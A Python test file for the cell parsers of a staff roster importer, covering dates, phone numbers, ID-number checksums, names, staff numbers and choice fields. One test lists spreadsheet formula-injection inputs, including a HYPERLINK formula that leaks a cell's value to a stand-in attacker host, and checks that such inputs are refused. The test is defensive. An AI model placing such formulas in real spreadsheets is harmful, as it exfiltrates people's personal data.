"""Reading single cells: what is normalised, what is refused and with which code."""

from datetime import date, datetime

import pytest

from chuangxian.orgs.models import Gender, MemberStatus, Political, Post
from chuangxian.roster.tests.factories import id_number
from chuangxian.roster.values import (
    CellError,
    parse_date,
    parse_gender,
    parse_id_number,
    parse_name,
    parse_phone,
    parse_political,
    parse_post,
    parse_staff_no,
    parse_status,
)

TODAY = date(2026, 11, 24)


def refused(parser, value, *args, **kwargs) -> CellError:
    with pytest.raises(CellError) as error:
        parser(value, *args, **kwargs)
    return error.value


@pytest.mark.parametrize(
    "value",
    [
        "2010-12-15",
        "2010/12/15",
        "2010.12.15",
        "2010年12月15日",
        "20101215",
        " 2010-12-15 ",
        "２０１０－１２－１５",
        "2010-12-15 00:00:00",
        "2010/12/15 0:00",
        date(2010, 12, 15),
        datetime(2010, 12, 15, 0, 0),
        40527,
        40527.0,
        "40527",
    ],
)
def test_accepted_date_spellings(value):
    assert parse_date(value, "出生日期", latest=TODAY) == date(2010, 12, 15)


@pytest.mark.parametrize("value", ["2010-13-01", "2010-02-30", "15/12/2010", "十二月", "2010年12月", "abc"])
def test_malformed_dates_are_refused_with_the_format_to_use(value):
    error = refused(parse_date, value, "出生日期", latest=TODAY)
    assert error.code == "date_invalid"
    assert "出生日期" in error.message
    assert "2010-12-15" in error.message


def test_dates_in_the_future_or_before_1900_are_refused():
    assert refused(parse_date, "2030-01-01", "入职日期", latest=TODAY).code == "date_out_of_range"
    assert refused(parse_date, "1850-01-01", "入职日期", latest=TODAY).code == "date_out_of_range"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("13805951234", "13805951234"),
        (13805951234, "13805951234"),
        (13805951234.0, "13805951234"),
        ("138 0595 1234", "13805951234"),
        ("138-0595-1234", "13805951234"),
        ("+86 13805951234", "13805951234"),
        ("１３８０５９５１２３４", "13805951234"),
        ("0595-22919999", "0595-22919999"),
        ("059522919999", "0595-22919999"),
        ("(0595)22919999", "0595-22919999"),
        ("010-12345678", "010-12345678"),
        ("0595-22919999-802", "0595-22919999-802"),
    ],
)
def test_phone_numbers_are_normalised(value, expected):
    assert parse_phone(value) == expected


@pytest.mark.parametrize(
    "value", ["1380595123", "12805951234", "22919999", "13805951234/13905951234", "电话"]
)
def test_bad_phone_numbers_are_refused(value):
    error = refused(parse_phone, value)
    assert error.code == "phone_invalid"
    assert "0595-22919999" in error.message


def test_valid_id_numbers_are_accepted_and_upper_cased():
    assert parse_id_number(id_number()) == id_number()
    with_x = next(n for n in (id_number(seq=s) for s in range(1000)) if n.endswith("X"))
    assert parse_id_number(with_x.lower()) == with_x
    assert parse_id_number(" " + "".join(chr(ord(c) + 0xFEE0) for c in with_x) + "\u3000") == with_x


@pytest.mark.parametrize(
    "value", [350502198001011234, 3.50502198001011e17, "3.50502E+17", "3.50502e17", "3.5E+17"]
)
def test_an_id_number_stored_as_a_number_is_refused_not_guessed(value):
    error = refused(parse_id_number, value)
    assert error.code == "id_number_numeric"
    assert "15" in error.message
    assert "文本" in error.message


def test_id_number_checksum_is_checked():
    good = id_number()
    wrong = good[:17] + ("0" if good[17] != "0" else "1")
    error = refused(parse_id_number, wrong)
    assert error.code == "id_number_checksum"
    assert "校验码" in error.message


def test_id_number_length_and_birth_date_are_checked():
    assert refused(parse_id_number, "350502800101123").code == "id_number_format"  # 15-digit old style
    assert refused(parse_id_number, "35050219800101123").code == "id_number_format"
    bad_birth = "35050219801301123"
    assert refused(parse_id_number, bad_birth + "0").code == "id_number_birth"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("张  伟", "张伟"),
        ("张\u3000伟", "张伟"),
        (" 王芳 ", "王芳"),
        ("阿卜杜 · 热合曼", "阿卜杜·热合曼"),
        ("Mary  Smith", "Mary Smith"),
    ],
)
def test_names_are_normalised(value, expected):
    assert parse_name(value) == expected


def test_a_number_in_the_name_column_is_refused():
    assert refused(parse_name, "2010001").code == "name_invalid"


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")',
        "=1+2",
        "+张伟",
        "-张伟",
        "@张伟",
        "\t=张伟",  # leading tabs and line breaks are trimmed, the formula under them is not
        "\r\n@张伟",
        "＝张伟",  # full width, as a Chinese input method types it
    ],
)
def test_a_name_that_excel_would_run_as_a_formula_is_refused(value):
    error = refused(parse_name, value)
    assert error.code == "name_formula"
    assert "开头" in error.message


def test_formula_characters_inside_a_name_are_fine():
    assert parse_name("张-伟") == "张-伟"
    assert parse_name("\t张伟") == "张伟"


@pytest.mark.parametrize(
    ("value", "expected"),
    [(2010001, "2010001"), (2010001.0, "2010001"), ("２０１０ ００１", "2010001"), ("js-01", "JS-01")],
)
def test_staff_numbers_are_normalised(value, expected):
    assert parse_staff_no(value) == expected


def test_bad_staff_numbers_are_refused():
    assert refused(parse_staff_no, "2010/001").code == "staff_no_invalid"
    assert refused(parse_staff_no, 2010.5).code == "staff_no_invalid"


def test_choice_aliases():
    assert parse_gender("男") == Gender.MALE
    assert parse_gender("女性") == Gender.FEMALE
    assert parse_post("专任教师") == Post.TEACHER
    assert parse_post("行政") == Post.ADMIN
    assert parse_post("教辅人员") == Post.SUPPORT
    assert parse_political("党员") == Political.CPC
    assert parse_political("预备党员") == Political.CPC_PROBATIONARY
    assert parse_political("九三学社社员") == Political.DEMOCRATIC
    assert parse_political("群众") == Political.MASSES
    assert parse_status("退休") == MemberStatus.RETIRED
    assert parse_status("调离") == MemberStatus.LEFT


def test_unknown_choices_name_the_accepted_values():
    error = refused(parse_gender, "未知")
    assert error.code == "gender_invalid"
    assert "男、女" in error.message
    assert refused(parse_post, "工勤").code == "post_invalid"
    error = refused(parse_political, "无党派人士")
    assert error.code == "political_invalid"
    assert "中共党员" in error.message
    assert refused(parse_status, "休假").code == "status_invalid"
